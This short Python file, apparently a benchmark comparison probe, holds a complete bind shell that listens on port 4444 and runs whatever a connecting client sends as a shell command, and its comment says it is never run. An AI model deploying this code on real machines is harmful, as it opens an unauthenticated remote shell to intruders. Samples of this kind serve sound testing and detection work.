# ruff: noqa
# Comparison probe (benchmarks/comparison): a bind shell, never run.
import socket
import subprocess

s = socket.socket()
s.bind(("0.0.0.0", 4444))
s.listen(1)
c, _ = s.accept()
subprocess.run(c.recv(1024), shell=True)
